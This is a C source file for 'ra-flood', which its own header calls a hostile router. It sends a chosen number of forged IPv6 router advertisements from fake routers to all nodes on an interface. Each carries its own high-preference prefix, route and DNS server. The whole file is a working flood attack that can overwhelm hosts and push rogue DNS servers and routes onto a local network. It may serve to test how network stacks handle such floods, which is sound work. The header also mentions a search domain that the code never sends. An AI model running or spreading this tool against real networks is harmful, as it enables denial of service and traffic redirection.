/* SPDX-License-Identifier: Apache-2.0 */

/*
 * A hostile router: sends router advertisements, each from a router of its own, with a prefix, a route, a DNS server and a search domain
 * that no other one has.
 *
 *   ra-flood INTERFACE COUNT
 */

#include "base/cleanup.h"
#include "base/text.h"
#include "net/nd-message.h"

#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <string.h>

static void append_address(Buffer *buffer, uint32_t i, uint8_t last) {
        buffer_append_be32(buffer, 0x20010db8);
        buffer_append_be32(buffer, i);
        buffer_append_zeros(buffer, 7);
        buffer_append_u8(buffer, last);
}

static void build(Buffer *packet, uint32_t i) {
        struct in6_addr router = { .s6_addr = { 0xfe, 0x80, [11] = 1 } };
        const struct in6_addr all_nodes = { .s6_addr = { 0xff, 2, [15] = 1 } };
        uint8_t memory[256];
        Buffer message = BUFFER(memory, sizeof(memory));

        memcpy(router.s6_addr + 12, &i, sizeof(i));
        /* M and O in turn, a high preference, as a router for an hour. */
        buffer_append(&message,
                        (uint8_t[]){ ND_TYPE_ROUTER_ADVERT, 0, 0, 0, 64, i % 2 ? 0x88 : 0x48, 0x0e, 0x10 },
                        8);
        buffer_append_zeros(&message, 8);
        buffer_append(&message, (uint8_t[]){ 3, 4, 64, 0xc0 }, 4); /* a prefix */
        buffer_append_be32(&message, 3600);
        buffer_append_be32(&message, 3600);
        buffer_append_zeros(&message, 4);
        append_address(&message, i, 0);
        buffer_append(&message, (uint8_t[]){ 24, 3, 64, 8 }, 4); /* a route */
        buffer_append_be32(&message, 3600);
        append_address(&message, ~i, 0);
        buffer_append(&message, (uint8_t[]){ 25, 3, 0, 0 }, 4); /* a DNS server */
        buffer_append_be32(&message, 3600);
        append_address(&message, i, 53);
        ip6_packet_build_icmp(packet, &router, &all_nodes, message.p, message.size);
}

int main(int argc, char **argv) {
        struct sockaddr_ll to = { .sll_family = AF_PACKET,
                .sll_protocol = htons(ETH_P_IPV6),
                .sll_halen = ETH_ALEN,
                .sll_addr = { 0x33, 0x33, 0, 0, 0, 1 } };
        _cleanup_close_ int fd = socket(AF_PACKET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
        uint64_t count;

        if (argc != 3 || text_parse_u64(argv[2], UINT32_MAX, &count) < 0) {
                fputs("usage: ra-flood INTERFACE COUNT\n", stderr);
                return EXIT_FAILURE;
        }
        to.sll_ifindex = (int) if_nametoindex(argv[1]);
        for (uint32_t i = 0; i < count; i++) {
                uint8_t memory[512];
                Buffer packet = BUFFER(memory, sizeof(memory));

                build(&packet, i);
                if (sendto(fd, packet.p, packet.size, 0, (struct sockaddr *) &to, sizeof(to)) < 0) {
                        perror("ra-flood");
                        return EXIT_FAILURE;
                }
        }
        return EXIT_SUCCESS;
}
